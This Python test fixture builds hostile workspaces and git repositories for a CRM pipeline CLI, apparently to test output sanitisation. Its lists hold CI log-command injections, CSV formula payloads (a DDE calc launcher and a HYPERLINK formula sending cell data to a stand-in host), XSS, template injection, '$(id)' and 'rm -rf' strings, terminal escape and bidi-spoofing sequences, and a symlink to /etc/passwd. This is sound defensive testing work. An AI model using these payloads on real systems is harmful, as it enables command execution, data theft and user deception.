"""A workspace whose every text means harm: to a terminal, a build log, a spreadsheet, a page, a table, a shell."""

import json
import subprocess
from pathlib import Path

from tests.commands.repository import committed, git

# What the reader takes: nothing in these is a control character.
ATTACKS = (
    "::error file=deals/a.yaml,line=1::taken over",
    "  ::add-mask::a",
    "::stop-commands::token",
    "##[add-mask]a",
    "##[error]taken over",
    "##vso[task.complete result=Failed]",
    "##teamcity[buildStatus status='FAILURE']",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "'=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "[open](javascript:alert(1))",
    "![x](http://x.example/x.png)",
    "a | b || c |",
    "`id` ``` $(id) ${{ secrets.TOKEN }}",
    "\\",
    "\\::error::x",
    "# head",
    "first\n::error::second",
    "tab\there\n##[group]x",
    "%0A::error::x",
    "--output=/tmp/x",
    "; rm -rf .; &amp; &#x1b;",
    "&lt;script&gt;",
    "{{7*7}} {% x %} %s %(x)s {0}",
    "\\input{/etc/passwd} $x$",
    "]]> --> */",
)

# What the reader refuses, however it is written; file names, commit titles and variables may have it.
STEERING = (
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://x.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;aWQ=\x07",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\rover",
    "\x08\x08back",
    "\x7f",
    "\u202etxt.exe",
    "\u2066hidden\u2069",
    "\u2028::error::x",
    "\x85##[error]x",
    "a\n::error::x",
    "\ufeff::error::x",
    "\u200b::error::x",
    "\U000e0041",
)

# What git takes for the name of a branch.
BRANCHES = (
    '=HYPERLINK("x")',
    "##error",
    "<script>",
    "a|b`id`",
    "\u202etxt",
    "\x9b31m",
    "$(id)",
)

# File names without their suffix; no file system that has `/` takes that one.
NAMES = (
    "::error::x",
    "##[error]x",
    "=1+1",
    "-n",
    "--output=x",
    "<script>",
    "a|b",
    "`id`",
    "a\nb",
    "\n::error::x",
    "\x1b[2Jx",
    "\x1b]8;;http:x\x07y",
    "\x9b31m",
    "\u202ex",
    "%0A::error::x",
    "\udcff",
    "$(id)",
    "a,line=9::x",
)

READABLE_DEAL = "h0"


def quoted(text: str) -> str:
    """*text* in YAML's double quotes, with an escape for all that is not ASCII."""
    return json.dumps(text)


def readable_workspace(root: Path) -> Path:
    """Files that can all be read, with an attack in every field that takes any text."""
    _write(root, "pipectl.yaml", _settings())
    _write(root, "pipelines/sales.yaml", _pipeline("sales"))
    _write(root, "pipelines/other.yaml", _pipeline("other"))
    for place, text in enumerate(ATTACKS):
        _write(root, f"deals/h{place}.yaml", _deal(text, ATTACKS[(place + 7) % len(ATTACKS)], place))
    for place, name in enumerate(("::error::x", "##[error]x", "=1+1", "<script>", "a|b`id`")):
        _write(root, f"deals/named/{name}.yaml", _deal(ATTACKS[place], ATTACKS[-1 - place], place))
    _write(root, "import.csv", sheet())
    _write(root, "import.yaml", _mapping("Company"))
    for place in (0, 3, 13):
        _write(root, f"wrong{place}.yaml", _mapping(quoted(ATTACKS[place])))
    return root


def hostile_workspace(root: Path) -> Path:
    """The readable files, and those that can't be read, by name and by content."""
    readable_workspace(root)
    _write(root, "pipelines/::error::x.yaml", "name: x\n")
    for place, text in enumerate(STEERING):
        _write(root, f"deals/refused/s{place}.yaml", f"title: {quoted(text)}\nstage: lead\n")
        _write(root, f"deals/refused/raw{place}.yaml", f"title: {text}\nstage: lead\n")
    for place, text in enumerate(ATTACKS[::2]):
        _write(root, f"deals/refused/w{place}.yaml", _wrong_deal(quoted(text)))
    for name in NAMES:
        title = quoted(name.encode("utf-8", "replace").decode())
        _write(root, f"deals/named/{name}.yaml", f"title: {title}\nstage: lead\n")
        _write(root, f"deals/named/{name}.yml", "title: x\nstage: lead\n")
    (root / "deals" / "::warning::folder\x1b[2J").mkdir()
    _write(root, "deals/::warning::folder\x1b[2J/inside.yaml", "title: Inside\nstage: lead\n")
    (root / "deals" / "\x1b]52;c;x\x07.yaml").symlink_to("/etc/passwd")
    return root


def hostile_repository(root: Path) -> Path:
    """The hostile workspace, committed by somebody of a hostile name under hostile titles, with hostile branches."""
    hostile_workspace(root)
    # Not every file system and git takes every name; these are left to the work tree.
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.name", "Eve ::error::x <script>")
    git(root, "config", "user.email", "=cmd@x.example")
    for place, text in enumerate((*ATTACKS, *STEERING)):
        if place == 0:
            committed(root, on="2026-10-01")
        subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", text, "-m", text], cwd=root, check=True)
    for name in BRANCHES:
        git(root, "branch", name)
    _write(root, "deals/h1.yaml", _deal(ATTACKS[3], ATTACKS[9], 1))
    return root


def refused_settings() -> list[str]:
    """Settings files that can't be used, each with an attack in what is wrong."""
    keys = ("version", "currency", "timezone", "default_pipeline", "fiscal_year_start", "rates", "targets", "checks")
    texts = (*ATTACKS, *STEERING)
    return [
        *(f"version: 1\ncurrency: IDR\n{key}: {quoted(text)}\n" for key in keys for text in texts[:: len(keys)]),
        *(f"version: 1\ncurrency: IDR\n{quoted(text)}: x\n" for text in texts),
        *(f"version: 1\ncurrency: IDR\nname: {text}\n  : - [\n" for text in texts),
    ]


def sheet() -> str:
    """A sheet to import, with an attack in every column's name and cell."""
    heads = ["Deal", "Company", "Stage", "Amount", "Owner", *ATTACKS[:4]]
    lines = [",".join(_cell(head) for head in heads)]
    for text in (*ATTACKS, *STEERING):
        cells = [text, text, "lead", "1000", text, *([text] * 4)]
        lines.append(",".join(_cell(cell) for cell in cells))
    return "\n".join(lines) + "\n"


def _mapping(company: str) -> str:
    return (
        "from: csv\npipeline: sales\nsystem: crm\ncurrency: IDR\n"
        f"columns: {{external_id: Deal, title: Deal, stage: Stage, amount: Amount, company: {company}}}\n"
        "stages: {lead: lead}\n"
    )


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _write(root: Path, path: str, text: str) -> None:
    place = root / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(text.encode("utf-8", "surrogateescape"))


def _settings() -> str:
    def each(line: str, texts: tuple[str, ...] = ATTACKS) -> str:
        return "".join("  " + line.format(text=quoted(text), place=place) + "\n" for place, text in enumerate(texts))

    return (
        "version: 1\n"
        f"name: {quoted(ATTACKS[0])}\n"
        "currency: IDR\ntimezone: Asia/Jakarta\ndefault_pipeline: sales\n"
        'display: {group: "|", decimal: "<", decimals: 2, symbol: "=<b>::error::##[x]"}\n'
        "team:\n"
        "  ani: {name: Ani, group: jakarta}\n"
        + each("p{place}: {{name: {text}, email: {text}, group: {text}}}")
        + "lost_reasons:\n"
        + each("- {text}")
        + "activity_types:\n  call: contact\n"
        + each("{text}: contact")
        + "fields:\n"
        + each("f{place}: {{type: choice, choices: [{text}, x]}}")
        + "  free: {type: text}\n"
        + "metrics:\n"
        + each("{text}: {{measure: count, where: {text}}}", ATTACKS[:6])
        + each("m{place}: {{measure: {text}, where: {text}}}", ATTACKS[:6])
        + "views:\n"
        + each("{text}: {text}")
        + "targets:\n"
        + "  - {period: 2026-Q4, amount: 1000000}\n"
        + each("- {{period: 2026-Q4, owner: p{place}, amount: 1000}}")
        + each("- {{period: 2026-Q4, group: {text}, deals: 2}}")
    )


def _pipeline(name: str) -> str:
    def label(place: int) -> str:
        return quoted(ATTACKS[place])

    return (
        f"name: {quoted(ATTACKS[14] + name)}\n"
        "stages:\n"
        f"  - {{id: lead, name: {label(0)}, probability: 5, max_days: 3, idle_days: 3, guidance: {label(3)}}}\n"
        f"  - {{id: proposal, name: {label(13)}, aliases: [old], probability: 50, guidance: {label(5)}}}\n"
        f"  - {{id: late, name: {label(7)}, probability: 70, on_enter: [{{task: {label(8)}, due: 2d}}]}}\n"
        f"  - {{id: won, name: {label(18)}, outcome: won}}\n"
        f"  - {{id: lost, name: {label(23)}, outcome: lost, requires: [lost_reason]}}\n"
    )


def _deal(text: str, other: str, place: int) -> str:
    stage, closed = _stage(place, text)
    one, two = quoted(text), quoted(other)
    return (
        f"title: {one}\npipeline: {'other' if place % 5 == 4 else 'sales'}\nstage: {stage}\n"
        f"amount: {1000 + place}\ncurrency: IDR\nexpected_close: 2026-1{place % 3}-15\n"
        f"owner: {f'p{place}' if place % 3 else quoted(text.strip())}\ncompany: {two}\n"
        f"contacts:\n  - {{name: {one}, role: {two}, email: {one}, phone: {two}}}\n"
        f"source: {one}\ntags: [{one}, {two}]\n"
        f"fields: {{f{place}: {one}, free: {two}}}\n"
        + (f"competitor: {two}\n" if closed else "")
        + f"notes: {one}\nexternal_ids: {{{one}: {two}}}\n"
        f"tasks:\n  - {{title: {one}, due: 2026-11-0{place % 9 + 1}, owner: ani}}\n"
        f"  - {{title: {two}, due: 2026-11-01, done: 2026-11-02}}\n"
        f"history:\n  - {{at: 2026-09-0{place % 9 + 1}, stage: lead, by: ani, note: {one}}}\n"
        f"  - {{at: 2026-10-0{place % 9 + 1}, stage: {stage}, by: {two}, note: {one}{closed}}}\n"
        f"activities:\n  - {{at: 2026-10-1{place % 9}, type: {one}, by: {two}, text: {one}}}\n"
        f"  - {{at: 2026-10-1{place % 9}, type: call, by: ani, text: {two}}}\n"
    )


def _stage(place: int, text: str) -> tuple[str, str]:
    """A stage for the deal of that number, and what its history says of its loss."""
    if place % 6 == 4:
        return "won", ""
    if place % 6 == 5:
        return "lost", f", lost_reason: {quoted(text)}"
    return ("lead", "proposal", "late")[place % 3], ""


def _wrong_deal(text: str) -> str:
    return (
        f"title: {text}\nstage: {text}\npipeline: {text}\namount: {text}\ncurrency: {text}\nexpected_close: {text}\n"
        f"{text}: {text}\nprobability: {text}\ntags: {text}\nfields: {{{text}: {text}}}\n"
        f"history: [{{at: {text}, stage: {text}}}]\ntasks: [{{title: {text}, due: {text}, every: {text}}}]\n"
        f"waive: [{{check: {text}, until: {text}}}]\n"
    )
